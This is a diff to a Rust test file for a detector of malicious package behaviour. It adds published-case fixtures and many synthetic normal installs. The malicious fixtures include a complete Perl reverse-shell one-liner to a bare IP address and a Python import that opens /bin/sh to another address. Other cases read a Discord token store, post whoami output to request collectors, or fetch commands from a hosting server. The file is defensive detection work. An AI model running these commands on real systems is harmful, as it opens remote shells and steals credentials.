@@ -168,6 +168,7 @@ fn each_rule_finds_what_it_is_for_and_not_what_is_alike() {
             "1.0.0",
             import().asks("api.telegram.org"),
         ),
+        ("chat-at-import", "1.0.0", import().asks("discord.com"), "1.0.0", did("execute").asks("discord.com")),
         (
             "token-database",
             "1.0.0",
@@ -262,73 +263,106 @@ fn each_rule_finds_what_it_is_for_and_not_what_is_alike() {
     assert_eq!(declared, table.iter().map(|row| row.0).collect(), "each rule has its examples");
 }
 
+/// The cases that Package Analysis published, as far as it told what it saw, and their likes: each with a rule that finds it.
 #[test]
 fn the_published_cases_are_found() {
-    let lookups = || did("import").asks("raw.githubusercontent.com").asks("ipinfo.io").asks("discord.com");
-    let cases = [
-        // Patches a chat client, and sends the tokens it finds to that client's own interface.
-        result(
+    let (install, import) = (|| did("install"), || did("import"));
+    let perl = "sh␣-c␣perl -e 'use Socket;$i=\"45.9.1.1\";$p=443;connect(S,sockaddr_in($p,inet_aton($i)));exec(\"/bin/sh -i\");'";
+    let cases: Vec<(&str, &str, &str, Vec<Did>, &str)> = vec![
+        // Fetches a backdoor, patches a chat client, and sends the tokens it finds to that client's own interface.
+        (
             "pypi",
-            "discordtokens",
-            "1.0.2",
-            &[
-                did("install").asks("pypi.org"),
-                lookups().reads("/root/.config/discord/Local Storage/leveldb/000003.log"),
+            "discordcmd",
+            "0.0.2",
+            vec![
+                install().asks("pypi.org"),
+                import()
+                    .asks("raw.githubusercontent.com")
+                    .asks("ipinfo.io")
+                    .asks("discord.com")
+                    .reads("/root/.config/discord/Local Storage/leveldb/000003.log"),
             ],
+            "chat-after-address-lookup",
         ),
-        result("pypi", "colorsapi", "6.6.7", &[lookups()]),
-        // Post the host's and the user's name to collectors, in versions of dependency confusion.
-        result(
+        // The same from npm; all that was seen are calls to the chat's interface.
+        (
+            "npm",
+            "colorsss",
+            "0.0.2",
+            vec![install().asks("registry.npmjs.org"), import().asks("discord.com")],
+            "chat-at-import",
+        ),
+        // Tells who it is, and opens a shell, by an address without a name.
+        (
+            "npm",
+            "@roku-web-core/ajax",
+            "1.100000000000003.100000000000003",
+            vec![install().runs("node␣index.js").runs(perl).connects("45.9.1.1", 443)],
+            "reverse-shell",
+        ),
+        (
+            "npm",
+            "@roku-web-core/ajax",
+            "1.100000000000003.100000000000003",
+            vec![install().runs("node␣index.js").connects("45.9.1.1", 4242)],
+            "bare-address-on-an-odd-port",
+        ),
+        // Opens a shell when one of its modules is imported.
+        (
+            "pypi",
+            "secrevthree",
+            "0.0.2",
+            vec![install().runs("python␣setup.py␣install"), import().connects("194.5.3.2", 443).runs("/bin/sh␣-i")],
+            "runs-a-shell-beside-a-bare-address",
+        ),
+        // Asks a server on a hosting platform for a command.
+        (
+            "npm",
+            "random-vouchercode-generator",
+            "1.0.3",
+            vec![
+                install().asks("registry.npmjs.org"),
+                import().asks("quiet-lake-77.herokuapp.com").runs("sh␣-c␣pm2 stop all"),
+            ],
+            "asks-a-hosting-platform",
+        ),
+        // Post the host's and the user's name to collectors, in versions of dependency confusion or of none.
+        (
             "npm",
             "@corp/core-lib",
             "5.0.0",
-            &[did("install").runs("node␣preinstall.js").runs("whoami").asks("x7q.burpcollaborator.net")],
+            vec![install().runs("node␣preinstall.js").runs("whoami").asks("x7q.burpcollaborator.net")],
+            "request-collector",
         ),
-        result(
+        (
             "npm",
             "corp-internal-ui",
             "99.10.9",
-            &[did("install").runs("node␣index.js").asks("eoabc.m.pipedream.net")],
+            vec![install().runs("node␣index.js").asks("eoabc.m.pipedream.net")],
+            "probe-with-an-implausible-version",
         ),
-        result(
-            "npm",
+        (
+            "pypi",
             "corp-tools",
             "99.0.0",
-            &[did("install").runs("sh␣-c␣ping c9.interact.sh").asks("c9.interact.sh")],
-        ),
-        // Open a shell for one unusual address.
-        result("npm", "rev-npm", "1.0.1", &[did("install").runs("node␣shell.js").connects("3.86.1.9", 4242)]),
-        result(
-            "pypi",
-            "rev-pypi",
-            "0.0.1",
-            &[
-                did("install").runs("python␣setup.py␣install"),
-                did("import").connects("194.5.3.2", 9001).runs("/bin/sh␣-i"),
-            ],
-        ),
-        // Asks a server on a hosting platform for a command.
-        result(
-            "npm",
-            "beautiful-logger",
-            "2.1.0",
-            &[
-                did("install").asks("registry.npmjs.org"),
-                did("import").asks("quiet-lake-77.herokuapp.com").runs("sh␣-c␣uname -a"),
-            ],
+            vec![install().runs("sh␣-c␣ping c9.interact.sh").asks("c9.interact.sh")],
+            "probe-with-an-implausible-version",
         ),
     ];
-    for (number, case) in cases.iter().enumerate() {
-        assert!(!met(case).is_empty(), "case {number} is not found");
+    for (ecosystem, name, version, phases, rule) in &cases {
+        let found = met(&result(ecosystem, name, version, phases));
+        assert!(found.contains(*rule), "{name} is not found by {rule}: {found:?}");
     }
-    let kinds = reading(&[("a.json", &cases[3])]);
+    let (ecosystem, name, version, phases, _) = &cases[7];
+    let kinds = reading(&[("a.json", &result(ecosystem, name, version, phases))]);
     assert!(write::compact(&kinds.taken.deliveries[0].record).contains(r#""kind":"dependency-confusion""#));
 }
 
 /// One of many normal installs: what package managers and builds do, with the package's own names in it.
 fn normal(number: usize) -> String {
     let pick = |salt: usize, from: &[&'static str]| from[(number / 3 * 7 + salt * 13 + number % 5) % from.len()];
-    let (name, version) = (format!("honest-{number}"), format!("{}.{}.{}", number % 30, number % 7, number % 11));
+    let year = if number.is_multiple_of(50) { 2024 } else { number % 30 };
+    let (name, version) = (format!("honest-{number}"), format!("{year}.{}.{}", number % 7, number % 11));
     let tmp = format!("/tmp/pip-install-{number:06x}/{name}");
     let base = |did: Did| {
         let did = did
@@ -340,6 +374,16 @@ fn normal(number: usize) -> String {
             .connects("", 0)
             .asks("kubernetes.cluster.local")
     };
+    // Every tenth is of another registry.
+    if number.is_multiple_of(10) {
+        let (ecosystem, command, host, build) = [
+            ("rubygems", "gem␣install", "index.rubygems.org", "make␣install"),
+            ("packagist", "composer␣require", "repo.packagist.org", "git␣clone␣--mirror"),
+            ("crates.io", "cargo␣add", "static.crates.io", "rustc␣--crate-name"),
+        ][number / 10 % 3];
+        let install = base(did("install")).runs(&format!("{command}␣{name}")).runs(build).asks(host).asks("github.com");
+        return result(ecosystem, &name, &version, &[install, base(did("import"))]);
+    }
     if number.is_multiple_of(2) {
         let install = base(did("install"))
             .runs(&format!("node␣/usr/local/bin/npm␣install␣{name}@{version}"))
@@ -351,6 +395,10 @@ fn normal(number: usize) -> String {
                     "node␣postinstall.js",
                     "make␣BUILDTYPE=Release",
                     "sh␣-c␣prebuild-install || node-gyp rebuild",
+                    "sh␣-c␣husky install",
+                    "curl␣-fsSL␣https://github.com/x/y/releases/download/v1/y.tar.gz␣-o␣/tmp/y.tar.gz",
+                    "sh␣-c␣node ./dist/cli.js --version || true",
+                    "git␣config␣core.hooksPath␣.husky",
                 ],
             ))
             .asks("registry.npmjs.org")
@@ -364,9 +412,14 @@ fn normal(number: usize) -> String {
                     "registry.npmjs.org",
                     "binaries.prisma.sh",
                     "cdn.playwright.dev",
+                    "download.cypress.io",
+                    "downloads.sentry-cdn.com",
+                    "storage.googleapis.com",
+                    "telemetry.vendor.example",
                 ],
             ))
             .reads("/root/.npmrc")
+            .reads(pick(4, &["/app/package.json", "/root/.gitconfig", "/etc/hosts", "/root/.yarnrc"]))
             .writes(&format!("/app/node_modules/{name}/index.js"))
             .writes("/root/.npm/_cacache/tmp/1")
             .writes(pick(
@@ -407,8 +460,10 @@ fn normal(number: usize) -> String {
         ))
         .writes(&format!("{tmp}/build/lib/x.so"))
         .writes("/root/.cache/pip/wheels/x");
+    // Libraries that ask for something read `.netrc`, as the one that nearly all of them use does.
     let import = base(did("import"))
         .runs("python3␣/usr/local/bin/analyze-python.py")
+        .asks(pick(4, &["pypi.org", "huggingface.co", "raw.githubusercontent.com", "updates.vendor.example"]))
         .reads(pick(3, &["/root/.config/matplotlib/matplotlibrc", "/root/.netrc", "/etc/passwd"]));
     result("pypi", &name, &version, &[install, import])
 }
@@ -505,6 +560,22 @@ fn what_is_frequent_is_normal() {
 
 proptest! {
     #![proptest_config(ProptestConfig { cases: 1000, failure_persistence: None, ..ProptestConfig::default() })]
+
+    #[test]
+    fn bytes_of_a_result_that_are_lost_or_changed_are_told(
+        at in any::<prop::sample::Index>(), length in 0_usize..40, byte in any::<u8>(), number in 0_usize..500,
+    ) {
+        let bytes = crate::damaged::damaged(&normal(number), at, length, byte);
+        let taken = crate::damaged::taken("package-analysis", "r.json", &bytes);
+        // Another byte may make another address of it, which is no longer normal.
+        prop_assert_eq!(taken.deliveries.len() + taken.refused.len() + taken.left_out, 1);
+        if Json::parse(&bytes).is_err() {
+            let told: Vec<&str> = taken.refused.iter().map(|one| one.rejected.message.as_str()).collect();
+            prop_assert!(told.len() == 1 && told[0].starts_with("line "), "{:?}", told);
+        }
+        let is_told = |one: &intake::Refused| !one.rejected.message.is_empty() && !one.rejected.remedy.is_empty();
+        prop_assert!(taken.refused.iter().all(is_told));
+    }
 
     #[test]
     fn a_damaged_result_is_refused_where_it_is_damaged(place in any::<prop::sample::Index>(), type_of in 0_u8..2, number in 0_usize..500) {
